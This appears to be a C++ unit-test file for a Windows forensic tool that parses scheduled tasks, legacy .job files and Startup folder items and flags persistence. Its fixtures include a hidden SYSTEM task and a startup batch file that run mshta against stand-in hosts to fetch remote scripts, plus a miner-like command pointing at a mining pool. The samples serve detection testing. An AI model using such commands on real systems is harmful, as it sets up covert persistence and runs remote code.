#include "formats/task_xml/task_xml.h"

#include <gtest/gtest.h>

#include <filesystem>

#include "core/mapped_file.h"
#include "detect/heuristics/windows_persistence.h"
#include "formats/task_job/task_job.h"
#include "normalize/windows_tasks.h"

namespace msw::formats::task_xml {
namespace {

// As Windows writes a task file: UTF-16LE with a BOM, the Task Scheduler namespace.
std::string utf16_file(const std::string& ascii) {
  std::string s = "\xff\xfe";
  for (char c : ascii) {
    s += c;
    s += '\0';
  }
  return s;
}

const char* kMysa = R"(<?xml version="1.0" encoding="UTF-16"?>
<Task version="1.2" xmlns="http://schemas.microsoft.com/windows/2004/02/mit/task">
  <RegistrationInfo><Date>2019-03-04T03:12:00</Date><Author>Microsoft</Author><URI>\Mysa</URI></RegistrationInfo>
  <Triggers>
    <TimeTrigger><Repetition><Interval>PT1H</Interval></Repetition><StartBoundary>2019-03-04T03:12:00</StartBoundary><Enabled>true</Enabled></TimeTrigger>
    <BootTrigger><Enabled>true</Enabled></BootTrigger>
  </Triggers>
  <Principals><Principal id="Author"><UserId>S-1-5-18</UserId><RunLevel>HighestAvailable</RunLevel></Principal></Principals>
  <Settings><Hidden>true</Hidden><Enabled>true</Enabled></Settings>
  <Actions Context="Author">
    <Exec><Command>cmd.exe</Command><Arguments>/c echo open ftp.ftp1202.site&gt;s&amp;cmd /c mshta http://js.example.top:280/v.sct</Arguments></Exec>
  </Actions>
</Task>)";

TEST(TaskXml, Utf16TaskWithTriggersAndActions) {
  const std::string file = utf16_file(kMysa);
  auto t = parse(as_bytes(file), "Mysa");
  ASSERT_TRUE(t) << t.error().message;
  EXPECT_EQ(t->uri, "\\Mysa");
  EXPECT_EQ(t->author, "Microsoft");
  EXPECT_EQ(t->user_id, "S-1-5-18");
  EXPECT_EQ(t->run_level, "HighestAvailable");
  EXPECT_TRUE(t->hidden);
  ASSERT_EQ(t->exec.size(), 1u);
  EXPECT_EQ(t->exec[0].command, "cmd.exe");
  EXPECT_EQ(t->exec[0].arguments, "/c echo open ftp.ftp1202.site>s&cmd /c mshta http://js.example.top:280/v.sct");
  EXPECT_EQ(describe_triggers(*t), "Time 2019-03-04T03:12:00 every PT1H; Boot");
  // Not a task, not XML, too large.
  EXPECT_EQ(parse(as_bytes(std::string("<a/>")), "x").error().code, "task.not_task");
  EXPECT_EQ(parse(as_bytes(std::string("<Task><")), "x").error().code, "task.not_xml");
  EXPECT_EQ(parse(as_bytes(std::string(kMaxTaskBytes + 1, ' ')), "x").error().code, "task.too_large");
}

TEST(TaskXml, EventsAndTheHeuristic) {
  const std::string file = utf16_file(kMysa);
  std::vector<model::Event> events;
  ASSERT_TRUE(normalize::scheduled_task_events(as_bytes(file), "triage/C/Windows/System32/Tasks/Mysa", events));
  ASSERT_EQ(events.size(), 1u);
  const model::Event& e = events[0];
  EXPECT_EQ(e.category, "scheduled_task");
  EXPECT_EQ(e.value("TaskName"), "\\Mysa");
  EXPECT_EQ(e.value("Image"), "cmd.exe");
  EXPECT_EQ(e.value("TaskHidden"), "true");
  std::vector<model::Finding> found;
  detect::heuristics::make_windows_persistence_engine()->scan_artefact({"Mysa", "", "scheduled_task", "", "", events}, found);
  ASSERT_EQ(found.size(), 1u);
  EXPECT_EQ(found[0].rule_id, detect::heuristics::kTaskSuspiciousRule);
  EXPECT_NE(found[0].title_en.find("mshta running a remote or inline script"), std::string::npos) << found[0].title_en;
  // A Microsoft maintenance task running from System32 is not.
  const std::string ok = utf16_file(R"(<Task xmlns="http://schemas.microsoft.com/windows/2004/02/mit/task"><Actions>
    <Exec><Command>%windir%\system32\defrag.exe</Command><Arguments>-c -h -o</Arguments></Exec></Actions></Task>)");
  events.clear();
  ASSERT_TRUE(normalize::scheduled_task_events(as_bytes(ok), "C/Windows/System32/Tasks/Microsoft/Windows/Defrag/ScheduledDefrag", events));
  EXPECT_EQ(events[0].value("TaskName"), "\\Microsoft\\Windows\\Defrag\\ScheduledDefrag");
  found.clear();
  detect::heuristics::make_windows_persistence_engine()->scan_artefact({"x", "", "scheduled_task", "", "", events}, found);
  EXPECT_TRUE(found.empty());
}

// A legacy .job as `at` writes it (MS-TSCH 2.4): fixed section, counted UTF-16 strings, one trigger.
std::string job_file(const std::string& app, const std::string& params, uint32_t flags) {
  auto u16 = [](uint16_t v) { return std::string{static_cast<char>(v & 0xFF), static_cast<char>(v >> 8)}; };
  auto u32 = [&](uint32_t v) { return u16(static_cast<uint16_t>(v)) + u16(static_cast<uint16_t>(v >> 16)); };
  auto text = [&](const std::string& t) {
    std::string out = u16(static_cast<uint16_t>(t.size() + 1));
    for (char c : t) out += c, out += '\0';
    return out + std::string(2, '\0');
  };
  std::string variable = u16(0) + text(app) + text(params) + text("") + text("SYSTEM") + text("") + u16(0) + u16(0) + u16(1);
  std::string trigger = u16(48) + u16(0) + u16(2019) + u16(3) + u16(4) + u16(0) + u16(0) + u16(0) + u16(3) + u16(0) +
                        u32(1440) + u32(30) + u32(0) + u32(1) + std::string(12, '\0');
  std::string fixed = u16(0x0601) + u16(1) + std::string(16, '\x11') + u16(0x46) + u16(static_cast<uint16_t>(0x44 + variable.size())) +
                      std::string(12, '\0') + u32(0) + u32(0) + u32(0x41300) + u32(flags) + u16(2019) + u16(3) + u16(1) + u16(4) +
                      u16(3) + u16(30) + u16(0) + u16(0);
  return fixed + variable + trigger;
}

TEST(TaskJob, ReadsALegacyJobIntoATaskEvent) {
  const std::string job = job_file("C:\\Windows\\debug\\lsmose.exe", "-o pool.example:3333", 0x200);
  auto parsed = task_job::parse(as_bytes(job));
  ASSERT_TRUE(parsed) << parsed.error().message;
  EXPECT_EQ(parsed->application, "C:\\Windows\\debug\\lsmose.exe");
  EXPECT_TRUE(parsed->hidden());
  EXPECT_EQ(task_job::describe_triggers(*parsed), "daily from 2019-03-04T03:00 every 30 min");
  std::vector<model::Event> events;
  ASSERT_TRUE(normalize::scheduled_task_events(as_bytes(job), "C/Windows/Tasks/At1.job", events));
  ASSERT_EQ(events.size(), 1u);
  EXPECT_EQ(events[0].value("TaskName"), "\\At1");
  EXPECT_EQ(events[0].value("CommandLine"), "C:\\Windows\\debug\\lsmose.exe -o pool.example:3333");
  EXPECT_EQ(events[0].value("TaskLastRun"), "2019-03-04T03:30:00Z");
  std::vector<model::Finding> found;
  detect::heuristics::make_windows_persistence_engine()->scan_artefact({"At1.job", "", "scheduled_task", "", "", events}, found);
  ASSERT_EQ(found.size(), 1u);
  EXPECT_EQ(found[0].rule_id, detect::heuristics::kTaskSuspiciousRule);
  // Cut anywhere or flipped anywhere: an error or a task, never a read out of bounds.
  for (size_t cut = 0; cut < job.size(); ++cut) (void)task_job::parse(as_bytes(job.substr(0, cut)));
  for (size_t bit = 0; bit < job.size() * 8; ++bit) {
    std::string flipped = job;
    flipped[bit / 8] = static_cast<char>(flipped[bit / 8] ^ (1 << (bit % 8)));
    std::vector<model::Event> ev;
    (void)normalize::scheduled_task_events(as_bytes(flipped), "x.job", ev);
  }
}

// plaso's wintask.job (Google Update, Windows 7): every field as MS-TSCH lays it out.
TEST(TaskJobCorpus, PublicJobParsesCompletely) {
  const auto path = std::filesystem::path(MSW_CORPUS_DIR) / "windows/plaso/wintask.job";
  if (!std::filesystem::exists(path)) GTEST_SKIP() << "corpus not present";
  auto file = MappedFile::open(path.string());
  ASSERT_TRUE(file);
  auto job = task_job::parse(file->bytes());
  ASSERT_TRUE(job) << job.error().message;
  EXPECT_EQ(job->product_version, 0x0601);
  EXPECT_EQ(job->uuid, "{0DF2CFEB-5293-41E9-A45E-733720C2E1FA}");
  EXPECT_EQ(job->application, "C:\\Program Files (x86)\\Google\\Update\\GoogleUpdate.exe");
  EXPECT_EQ(job->parameters, "/ua /installsource scheduler");
  EXPECT_EQ(job->author, "Brian");
  EXPECT_TRUE(job->comment.starts_with("Keeps your Google software up to date."));
  EXPECT_EQ(job->comment.size(), 287u);
  ASSERT_TRUE(job->last_run);
  EXPECT_EQ(to_iso8601(*job->last_run, 0), "2013-08-24T12:42:00Z");
  EXPECT_EQ(task_job::describe_triggers(*job), "daily from 2013-07-12T15:42 every 60 min");
  EXPECT_FALSE(job->hidden());
}

TEST(StartupFolder, ScriptsAndProgramsThereAreFindings) {
  std::vector<model::Event> events;
  const std::string dir = "C/Users/bob/AppData/Roaming/Microsoft/Windows/Start Menu/Programs/Startup/";
  normalize::startup_item_events(as_bytes(std::string("@echo off\r\nstart /b mshta http://js.example/v.sct\r\n")), dir + "up.bat", events);
  normalize::startup_item_events(as_bytes(std::string("MZ")), dir + "helper.exe", events);
  normalize::startup_item_events(as_bytes(std::string("L\0\0\0")), dir + "OneNote.lnk", events);
  normalize::startup_item_events(as_bytes(std::string("[.ShellClassInfo]")), dir + "desktop.ini", events);
  ASSERT_EQ(events.size(), 3u);  // desktop.ini is the folder's own
  EXPECT_EQ(events[0].value("CommandLine"), "start /b mshta http://js.example/v.sct");
  std::vector<model::Finding> found;
  detect::heuristics::make_windows_persistence_engine()->scan_artefact({"Startup", "", "startup_item", "", "", events}, found);
  ASSERT_EQ(found.size(), 2u);  // the shortcut is left to the knowledge base
  EXPECT_EQ(found[0].severity, model::Severity::High);
  EXPECT_EQ(found[0].title_en, "Startup folder runs up.bat (mshta running a remote or inline script)");
  EXPECT_EQ(found[1].severity, model::Severity::Medium);
}

}  // namespace
}  // namespace msw::formats::task_xml
